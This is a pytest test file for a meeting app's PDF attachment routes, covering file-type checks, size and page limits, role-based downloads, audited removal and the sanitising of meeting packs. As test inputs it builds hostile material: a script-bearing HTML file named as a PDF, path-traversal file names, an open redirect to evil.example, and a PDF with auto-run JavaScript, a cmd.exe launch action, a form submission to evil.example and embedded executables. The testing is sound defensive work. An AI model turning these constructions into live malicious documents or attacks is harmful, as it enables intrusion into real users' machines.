"""Attachments through the routes: only PDFs by content, stored under random names,
refused when too large with the limit in words, downloaded byte for byte by those who
may see their meeting or proposal, and removed on the record."""

import io
import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from sqlalchemy import func, select

from decisions.accounts.models import Role
from decisions.audit.models import AuditEntry
from decisions.extensions import db
from decisions.files import storage
from decisions.files.models import Attachment
from decisions.meetings import agenda, queries
from decisions.meetings.models import DocumentKind

EN = {"Accept-Language": "en"}
HTMX = {**EN, "HX-Request": "true"}
STORAGE_KEY = re.compile(r"^[0-9a-f]{32}\.pdf$")


@pytest.fixture
def sec(app, make):
    return make.user(Role.SECRETARIAT)


@pytest.fixture
def item(app, make, sec):
    """An item on a planned meeting: its agenda is open for attachments."""
    return make.item(sec, make.meeting(make.group()), "Regional transportplan")


def _upload(data: bytes, filename: str, title: str = "") -> dict:
    return {"file": (io.BytesIO(data), filename), "title": title}


def _stored_files(app) -> list[Path]:
    return [p for p in Path(app.config["FILE_STORAGE"]).rglob("*") if p.is_file()]


def _attachments() -> list[Attachment]:
    db.session.commit()  # a fresh read: the requests wrote in their own sessions
    return list(db.session.scalars(select(Attachment).order_by(Attachment.id)))


def _field_errors(html: str) -> list[str]:
    return re.findall(
        r'<p class="[^"]*\bfield-error\b[^"]*"[^>]* id="[^"]*-file-error">([^<]*)</p>', html)


def test_html_named_pdf_is_refused_next_to_the_field_keeping_the_title_and_stores_nothing(
        app, client, make, sec, item):
    make.login(client, sec)
    page = b"<!doctype html><html><script>alert(document.cookie)</script></html>"

    response = client.post(f"/items/{item.id}/attachments", headers=EN,
                           data=_upload(page, "rapport.pdf", title="Min tittel"))

    assert response.status_code == 422
    assert _field_errors(response.text) == [
        "The file is not a PDF. Only PDF attachments can be added."]
    assert 'value="Min tittel"' in response.text
    assert _attachments() == []
    assert _stored_files(app) == []


def test_the_htmx_refusal_is_the_fragment_with_the_error_next_to_the_field(
        app, client, make, sec, item):
    make.login(client, sec)

    response = client.post(f"/items/{item.id}/attachments", headers=HTMX,
                           data=_upload(b"%PDF-1.7 but nothing else", "x.pdf", title="Notat"))

    assert response.status_code == 200
    assert "<html" not in response.text
    assert _field_errors(response.text) == [
        "The PDF could not be read. Save it again as PDF and upload it once more."]
    assert 'value="Notat"' in response.text
    assert _attachments() == []


@pytest.mark.parametrize(("sent", "shown"), [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\x.pdf", "x.pdf"),
])
def test_a_path_in_the_file_name_is_stored_under_a_random_key_and_shown_cleaned(
        app, client, make, sec, item, tmp_path, sent, shown):
    make.login(client, sec)

    response = client.post(f"/items/{item.id}/attachments", headers=EN,
                           data=_upload(make.pdf_bytes(), sent))

    assert response.status_code == 303
    [attachment] = _attachments()
    assert attachment.filename == shown
    assert STORAGE_KEY.match(attachment.storage_key)
    root = Path(app.config["FILE_STORAGE"]).resolve()
    [stored] = _stored_files(app)
    assert stored.resolve().is_relative_to(root) and stored.name == attachment.storage_key
    assert not (tmp_path / "etc").exists() and not (tmp_path / "x.pdf").exists()
    page = client.get(f"/items/{item.id}/attachments", headers=EN).text
    assert f"({shown}," in page and sent not in page


def test_a_request_over_the_size_limit_is_refused_with_413_naming_the_limit(
        app, client, make, sec, item):
    app.config["ATTACHMENT_MAX_MB"] = 1
    app.config["MAX_CONTENT_LENGTH"] = 2 * 1024 * 1024
    make.login(client, sec)
    big = b"%PDF-1.7\n" + b"0" * (3 * 1024 * 1024)

    response = client.post(f"/items/{item.id}/attachments", headers=EN,
                           data=_upload(big, "stor.pdf"))

    assert response.status_code == 413
    assert "The file is larger than 1 MB." in response.text
    assert _attachments() == [] and _stored_files(app) == []


def test_a_file_over_the_limit_but_within_the_request_limit_gets_the_message_by_the_field(
        app, client, make, sec, item):
    app.config["ATTACHMENT_MAX_MB"] = 1
    app.config["MAX_CONTENT_LENGTH"] = 2 * 1024 * 1024
    make.login(client, sec)
    big = b"%PDF-1.7\n" + b"0" * (1536 * 1024)

    response = client.post(f"/items/{item.id}/attachments", headers=EN,
                           data=_upload(big, "stor.pdf"))

    assert response.status_code == 422
    assert _field_errors(response.text) == ["The file is larger than 1 MB."]
    assert _attachments() == [] and _stored_files(app) == []


def test_a_pdf_uploads_and_downloads_byte_for_byte_with_safe_headers(
        app, client, make, sec, item):
    make.login(client, sec)
    pdf = make.pdf_bytes(pages=3, text="Årsrapport")

    response = client.post(f"/items/{item.id}/attachments", headers=EN,
                           data=_upload(pdf, "Årsrapport 2025.pdf", title="Årsrapport"))

    assert response.status_code == 303
    assert urlsplit(response.location).path == f"/items/{item.id}/attachments"
    [attachment] = _attachments()
    assert (attachment.title, attachment.pages, attachment.size) == ("Årsrapport", 3, len(pdf))
    download = client.get(f"/attachments/{attachment.id}")
    assert download.status_code == 200
    assert download.data == pdf
    assert download.mimetype == "application/pdf"
    disposition = download.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''%C3%85rsrapport%202025.pdf" in disposition
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    # Opened in the browser anyway, it runs in a sandbox: no script, no forms.
    assert download.headers["Content-Security-Policy"].split(";")[0] == "sandbox"
    assert "private" in download.headers["Cache-Control"]


def test_an_upload_from_a_page_returns_to_that_page_and_never_elsewhere(
        app, client, make, sec, item):
    make.login(client, sec)
    url = f"/items/{item.id}/attachments"

    back = client.post(url, data={**_upload(make.pdf_bytes(), "a.pdf"),
                                  "next": f"/items/{item.id}/edit"})
    away = client.post(url, data={**_upload(make.pdf_bytes(), "b.pdf"),
                                  "next": "https://evil.example/"})

    assert back.status_code == away.status_code == 303
    assert back.location == f"/items/{item.id}/edit"
    assert away.location == "/"


def test_an_htmx_upload_answers_with_the_list_that_now_holds_the_attachment(
        app, client, make, sec, item):
    make.login(client, sec)

    response = client.post(f"/items/{item.id}/attachments", headers=HTMX,
                           data=_upload(make.pdf_bytes(), "plan.pdf", title="Planutkast"))

    assert response.status_code == 200
    assert "<html" not in response.text
    [attachment] = _attachments()
    assert f'href="/attachments/{attachment.id}"' in response.text
    assert "Planutkast" in response.text and 'role="status"' in response.text


def test_a_representative_downloads_an_attachment_of_a_published_meeting_not_a_planned_one(
        app, client, make, sec):
    group = make.group()
    published = make.meeting(group)
    planned = make.meeting(group)
    on_published = make.item(sec, published, "Budsjett")
    on_planned = make.item(sec, planned, "Strategi")
    from decisions.files.services import add_attachment

    shown = add_attachment(sec, data=make.pdf_bytes(), filename="budsjett.pdf",
                           item=on_published)
    hidden = add_attachment(sec, data=make.pdf_bytes(), filename="strategi.pdf",
                            item=on_planned)
    agenda.publish_notice(sec, published)
    db.session.commit()
    anonymous = app.test_client()
    make.login(client, make.representative(make.member()))

    assert client.get(f"/attachments/{shown.id}").status_code == 200
    assert client.get(f"/attachments/{hidden.id}").status_code == 403
    response = anonymous.get(f"/attachments/{shown.id}")
    assert response.status_code == 302
    assert urlsplit(response.location).path == "/login"


def test_an_attachment_of_a_draft_proposal_is_the_secretariats_only(app, client, make, sec):
    draft = make.proposal(sec, title="Utkast")
    circulated = make.round_(sec, [make.member()]).proposal
    browsers = {}
    for role, user in {"secretariat": sec, "board": make.user(Role.BOARD),
                       "representative": make.representative(make.member())}.items():
        browsers[role] = app.test_client()
        make.login(browsers[role], user)
    for proposal in (draft, circulated):
        response = browsers["secretariat"].post(
            f"/proposals/{proposal.id}/attachments",
            data=_upload(make.pdf_bytes(), f"notat-{proposal.id}.pdf"))
        assert response.status_code == 303
    on_draft, on_circulated = _attachments()

    assert {role: b.get(f"/attachments/{on_draft.id}").status_code
            for role, b in browsers.items()} == {
        "secretariat": 200, "board": 403, "representative": 403}
    assert {role: b.get(f"/attachments/{on_circulated.id}").status_code
            for role, b in browsers.items()} == {
        "secretariat": 200, "board": 200, "representative": 200}


def test_only_the_secretariat_uploads_and_a_refused_upload_stores_nothing(
        app, client, make, item):
    make.login(client, make.user(Role.BOARD))

    response = client.post(f"/items/{item.id}/attachments",
                           data=_upload(make.pdf_bytes(), "a.pdf"))

    assert response.status_code == 403
    assert _attachments() == [] and _stored_files(app) == []


def test_removing_an_attachment_is_audited_and_it_can_no_longer_be_downloaded(
        app, client, make, sec, item):
    make.login(client, sec)
    client.post(f"/items/{item.id}/attachments", data=_upload(make.pdf_bytes(), "a.pdf"))
    [attachment] = _attachments()

    response = client.post(f"/attachments/{attachment.id}/remove", headers=EN,
                           data={"confirmed": "1"})

    assert response.status_code == 303
    [attachment] = _attachments()
    assert attachment.removed
    entry = db.session.scalars(select(AuditEntry).where(
        AuditEntry.act == "attachment.removed")).one()
    assert (entry.actor_id, entry.object_id) == (sec.id, attachment.id)
    assert entry.before["filename"] == "a.pdf"
    assert client.get(f"/attachments/{attachment.id}").status_code == 404
    page = client.get(f"/items/{item.id}/attachments", headers=EN).text
    assert f"/attachments/{attachment.id}" not in page and "No attachments." in page


def test_attachments_of_a_held_meeting_cannot_be_removed_and_the_refusal_says_why(
        app, client, make, sec, item):
    from decisions.files.services import add_attachment

    attachment = add_attachment(sec, data=make.pdf_bytes(), filename="a.pdf", item=item)
    agenda.publish_notice(sec, item.meeting)
    make.held(sec, item.meeting)
    db.session.commit()
    make.login(client, sec)

    response = client.post(f"/attachments/{attachment.id}/remove", headers=HTMX,
                           data={"confirmed": "1"})

    assert response.status_code == 200
    assert "Attachments can only be removed before the meeting." in response.text
    assert not _attachments()[0].removed
    assert db.session.scalar(select(func.count()).select_from(AuditEntry).where(
        AuditEntry.act == "attachment.removed")) == 0


# --- Hostile PDFs ---------------------------------------------------------------------

def _deep_page_tree(depth: int = 150) -> bytes:
    """A well-formed PDF whose page tree nests deeper than pypdf's limit (100)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for n in range(2, depth + 2):
        parent = b" /Parent %d 0 R" % (n - 1) if n > 2 else b""
        objects.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1%s >>" % (n + 1, parent))
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (depth + 1))
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, xref))
    return out.getvalue()


def test_a_pdf_that_trips_a_pypdf_safety_limit_is_refused_as_unreadable_not_a_500(
        app, client, make, sec, item):
    make.login(client, sec)

    response = client.post(f"/items/{item.id}/attachments", headers=EN,
                           data=_upload(_deep_page_tree(), "dyp.pdf", title="Dyp"))

    assert response.status_code == 422
    assert _field_errors(response.text) == [
        "The PDF could not be read. Save it again as PDF and upload it once more."]
    assert 'value="Dyp"' in response.text
    assert _attachments() == [] and _stored_files(app) == []


def test_a_pdf_over_the_page_limit_is_refused_next_to_the_field_naming_the_limit(
        app, client, make, sec, item):
    app.config["ATTACHMENT_MAX_PAGES"] = 2
    make.login(client, sec)

    refused = client.post(f"/items/{item.id}/attachments", headers=EN,
                          data=_upload(make.pdf_bytes(pages=3), "lang.pdf", title="Lang"))
    taken = client.post(f"/items/{item.id}/attachments", headers=EN,
                        data=_upload(make.pdf_bytes(pages=2), "kort.pdf"))

    assert refused.status_code == 422
    assert _field_errors(refused.text) == [
        "The PDF has 3 pages; an attachment may have at most 2. Split it into several "
        "attachments."]
    assert 'value="Lang"' in refused.text
    assert taken.status_code == 303
    assert [a.filename for a in _attachments()] == ["kort.pdf"]


def _name(value: str) -> NameObject:
    return NameObject(value)


def _hostile_pdf() -> bytes:
    """One page carrying what a PDF can run, launch, open or hide: scripts on opening,
    on page events and in the name tree, launch/web/remote/submit links, a form field
    with a script, an XFA form, embedded files; a harmless jump within it, and one
    with a script chained to it."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)

    def add(obj) -> IndirectObject:
        return writer._add_object(obj)

    def action(kind: str, **entries) -> IndirectObject:
        return add(DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind),
                                     **{_name(f"/{k}"): v for k, v in entries.items()}}))

    def script(code: str) -> IndirectObject:
        return action("/JavaScript", JS=TextStringObject(f"app.alert('PWNED {code}')"))

    def stream(data: bytes, **entries) -> IndirectObject:
        obj = DecodedStreamObject()
        obj.set_data(data)
        obj.update({_name(f"/{k}"): v for k, v in entries.items()})
        return add(obj)

    def annotation(subtype: str, **entries) -> IndirectObject:
        rect = ArrayObject([FloatObject(v) for v in (50, 50, 200, 100)])
        return add(DictionaryObject({_name("/Type"): _name("/Annot"),
                                     _name("/Subtype"): _name(subtype), _name("/Rect"): rect,
                                     **{_name(f"/{k}"): v for k, v in entries.items()}}))

    def filespec(name: str) -> IndirectObject:
        embedded = stream(b"MZ PWNED embedded " + name.encode(),
                          Type=_name("/EmbeddedFile"))
        return add(DictionaryObject({
            _name("/Type"): _name("/Filespec"), _name("/F"): TextStringObject(name),
            _name("/EF"): DictionaryObject({_name("/F"): embedded})}))

    root = writer._root_object
    root[_name("/OpenAction")] = script("open")
    root[_name("/AA")] = DictionaryObject({_name("/WC"): script("close")})
    root[_name("/Names")] = DictionaryObject({
        _name("/JavaScript"): DictionaryObject({_name("/Names"): ArrayObject([
            TextStringObject("x"), script("names")])}),
        _name("/EmbeddedFiles"): DictionaryObject({_name("/Names"): ArrayObject([
            TextStringObject("payload.exe"), filespec("payload.exe")])})})
    field = annotation("/Widget", FT=_name("/Btn"), T=TextStringObject("send"),
                       A=action("/SubmitForm", F=TextStringObject("https://evil.example/PWNED")),
                       AA=DictionaryObject({_name("/E"): script("enter")}))
    root[_name("/AcroForm")] = DictionaryObject({
        _name("/Fields"): ArrayObject([field]),
        _name("/XFA"): stream(b"<xdp:xdp>PWNED xfa</xdp:xdp>")})
    page[_name("/AA")] = DictionaryObject({_name("/O"): script("page open")})
    page[_name("/Annots")] = ArrayObject([
        annotation("/Link", A=action("/Launch", F=TextStringObject("PWNED.exe"),
                                     Win=DictionaryObject({_name("/F"): TextStringObject(
                                         "cmd.exe")}))),
        annotation("/Link", A=action("/URI", URI=TextStringObject(
            "https://evil.example/PWNED"))),
        annotation("/Link", A=action("/GoToR", F=TextStringObject("PWNED.pdf"),
                                     D=ArrayObject([NumberObject(0), _name("/Fit")]))),
        annotation("/Link", A=action("/ImportData", F=TextStringObject("PWNED.fdf"))),
        annotation("/FileAttachment", FS=filespec("notes.exe")),
        field,
        annotation("/Link", A=action("/GoTo", D=ArrayObject([
            page.indirect_reference, _name("/Fit")]))),
        annotation("/Link", A=action("/GoTo", D=ArrayObject([
            page.indirect_reference, _name("/Fit")]), Next=script("chained"))),
    ])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


ACTIVE_KEYS = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles", "/EF", "/XFA",
               "/URI"}
RUNNING_ACTIONS = {"/JavaScript", "/Launch", "/URI", "/GoToR", "/SubmitForm", "/ImportData"}


def _active_content(data: bytes) -> dict[str, set[str]]:
    """What of the above is in every object of the file, referenced or not."""
    reader = PdfReader(io.BytesIO(data))
    numbers = {n for entries in reader.xref.values() for n in entries}
    numbers |= set(reader.xref_objStm)
    found = {"keys": set(), "actions": set(), "annotations": set()}
    stack = [reader.get_object(n) for n in numbers if n]
    while stack:
        obj = stack.pop()
        if isinstance(obj, DictionaryObject):
            found["keys"] |= ACTIVE_KEYS.intersection(obj.keys())
            if obj.get("/S") in RUNNING_ACTIONS | {"/GoTo"}:
                found["actions"].add(str(obj["/S"]))
            if obj.get("/Type") == "/Annot":
                found["annotations"].add(str(obj["/Subtype"]))
            stack.extend(v for v in obj.values() if not isinstance(v, IndirectObject))
        elif isinstance(obj, ArrayObject):
            stack.extend(v for v in obj if not isinstance(v, IndirectObject))
    return found


@pytest.mark.real_pdf
def test_the_meeting_pack_carries_no_script_launch_link_form_or_file_of_an_attachment(
        app, client, make, sec, item):
    hostile = _hostile_pdf()
    assert _active_content(hostile) == {  # what the attachment brings, as uploaded
        "keys": ACTIVE_KEYS, "actions": RUNNING_ACTIONS | {"/GoTo"},
        "annotations": {"/Link", "/Widget", "/FileAttachment"}}
    make.login(client, sec)
    uploaded = client.post(f"/items/{item.id}/attachments",
                           data=_upload(hostile, "vedlegg.pdf"))
    assert uploaded.status_code == 303

    agenda.publish_notice(sec, item.meeting)
    db.session.commit()

    document = queries.latest_document(item.meeting, DocumentKind.PACK)
    pack = storage.read(document.storage_key)
    notice = storage.read(queries.latest_document(
        item.meeting, DocumentKind.NOTICE).storage_key)
    found = _active_content(pack)
    assert found["keys"] == set()
    assert found["actions"] <= {"/GoTo"}  # a jump within the document is all that is left
    assert "/FileAttachment" not in found["annotations"]
    assert b"PWNED" not in pack
    pages = PdfReader(io.BytesIO(pack)).pages
    assert len(pages) == len(PdfReader(io.BytesIO(notice)).pages) + 1
    # The attachment as uploaded is kept as it came, for the record (and served as a
    # download that no browser runs).
    [attachment] = _attachments()
    assert storage.read(attachment.storage_key) == hostile
